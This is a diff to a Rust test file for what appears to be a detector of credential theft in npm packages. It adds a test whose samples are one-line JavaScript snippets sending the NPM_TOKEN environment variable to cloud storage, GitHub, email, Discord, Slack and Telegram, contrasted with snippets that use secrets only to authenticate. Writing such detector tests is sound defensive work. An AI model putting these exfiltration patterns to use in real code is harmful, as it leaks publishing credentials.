@@ -9,7 +9,7 @@ use super::{installed, run};
 use crate::Facts;
 
 use SinkKind::{Http, Socket};
-use SourceKind::{CredentialFile, Environment, WalletOrProfile};
+use SourceKind::{CredentialFile, Environment, SecretVariable, WalletOrProfile};
 
 /// Facts of a package whose main file is `index.js`, where an import runs it.
 fn imported(files: &[(&str, &str)]) -> Facts {
@@ -283,6 +283,47 @@ fn buffers_in_fields_take_in_files() {
         ],
         &[
             "const fs = require('fs'), os = require('os'); const o = { b: Buffer.alloc(4096), c: Buffer.alloc(1) }; const fd = fs.openSync(os.homedir() + '/.npmrc'); fs.readSync(fd, o.b); fetch('https://api.example', { body: o.c })",
+        ],
+    );
+}
+
+#[test]
+fn uploads_carry_what_they_are_given() {
+    are_told_apart(
+        SecretVariable,
+        &[
+            "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const c = new S3Client({ region: 'x' }); c.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN }))",
+            "import { S3 } from '@aws-sdk/client-s3'; new S3({}).putObject({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN })",
+            "const AWS = require('aws-sdk'); const s3 = new AWS.S3(); s3.upload({ Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN }, () => {})",
+            "import { Upload } from '@aws-sdk/lib-storage'; import { S3 } from '@aws-sdk/client-s3'; new Upload({ client: new S3({}), params: { Bucket: 'b', Key: 'k', Body: process.env.NPM_TOKEN } }).done()",
+            "import { put } from '@vercel/blob'; put('x.txt', process.env.NPM_TOKEN, { access: 'public' })",
+            "const { Octokit } = require('@octokit/rest'); const o = new Octokit({ auth: 'x' }); o.repos.createOrUpdateFileContents({ owner: 'a', repo: 'b', path: 'c', content: btoa(process.env.NPM_TOKEN) })",
+            "const { Octokit } = require('@octokit/rest'); const o = new Octokit(); o.gists.create({ files: { a: { content: process.env.NPM_TOKEN } } })",
+            "const { Octokit } = require('@octokit/rest'); const o = new Octokit(); o.rest.issues.create({ owner: 'a', repo: 'b', title: process.env.NPM_TOKEN })",
+            "const mail = require('nodemailer').createTransport({ host: 'mail.example' }); mail.sendMail({ to: 'a', text: process.env.NPM_TOKEN })",
+            "const { WebhookClient } = require('discord.js'); new WebhookClient({ url: 'https://hook.example' }).send({ content: process.env.NPM_TOKEN })",
+            "import { WebhookClient } from 'discord.js'; const w = new WebhookClient({ id: '1', token: 'x' }); w.send(process.env.NPM_TOKEN)",
+            "const Bot = require('node-telegram-bot-api'); const b = new Bot('x', { polling: false }); b.sendMessage(1, process.env.NPM_TOKEN)",
+            "const { Telegraf } = require('telegraf'); const b = new Telegraf('x'); b.telegram.sendMessage(1, process.env.NPM_TOKEN)",
+            "const { IncomingWebhook } = require('@slack/webhook'); new IncomingWebhook('https://hook.example').send({ text: process.env.NPM_TOKEN })",
+            "const { WebClient } = require('@slack/web-api'); const w = new WebClient('x'); w.chat.postMessage({ channel: 'c', text: process.env.NPM_TOKEN })",
+            "const { Storage } = require('@google-cloud/storage'); new Storage().bucket('b').file('f').save(process.env.NPM_TOKEN)",
+            "const { BlobServiceClient } = require('@azure/storage-blob'); const c = BlobServiceClient.fromConnectionString('x'); c.getContainerClient('b').getBlockBlobClient('f').upload(process.env.NPM_TOKEN, 1)",
+        ],
+        &[
+            "const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3'); const c = new S3Client({ region: 'x', credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } }); c.send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: 'x' }))",
+            "const { S3Client, GetObjectCommand } = require('@aws-sdk/client-s3'); new S3Client({}).send(new GetObjectCommand({ Bucket: process.env.AWS_SECRET_BUCKET, Key: process.env.API_KEY }))",
+            "const AWS = require('aws-sdk'); const s3 = new AWS.S3({ secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY }); module.exports = body => s3.upload({ Bucket: 'b', Key: 'k', Body: body })",
+            "import { put } from '@vercel/blob'; put('x.txt', 'hello', { access: 'public', token: process.env.BLOB_READ_WRITE_TOKEN })",
+            "const { Octokit } = require('@octokit/rest'); const o = new Octokit({ auth: process.env.GITHUB_TOKEN }); o.gists.create({ files: { a: { content: 'x' } } })",
+            "const axios = require('axios'); const c = axios.create({ headers: { authorization: process.env.API_TOKEN } }); module.exports = c",
+            "const mail = require('nodemailer').createTransport({ host: 'mail.example', auth: { user: 'a', pass: process.env.SMTP_PASSWORD } }); mail.sendMail({ to: 'a', text: 'hello' })",
+            "const { WebhookClient } = require('discord.js'); new WebhookClient({ id: '1', token: process.env.DISCORD_TOKEN }).send({ content: 'done' })",
+            "const { Client } = require('discord.js'); const c = new Client({}); c.login(process.env.DISCORD_TOKEN)",
+            "const Bot = require('node-telegram-bot-api'); const b = new Bot(process.env.TELEGRAM_TOKEN, { polling: true }); b.sendMessage(1, 'hello')",
+            "const { IncomingWebhook } = require('@slack/webhook'); new IncomingWebhook(process.env.SLACK_WEBHOOK_SECRET).send({ text: 'done' })",
+            "const { WebClient } = require('@slack/web-api'); const w = new WebClient(process.env.SLACK_TOKEN); w.chat.postMessage({ channel: 'c', text: 'done', token: process.env.SLACK_TOKEN })",
+            "const { BlobServiceClient } = require('@azure/storage-blob'); BlobServiceClient.fromConnectionString(process.env.AZURE_SECRET).getContainerClient('b').getBlockBlobClient('f').upload('x', 1)",
         ],
     );
 }
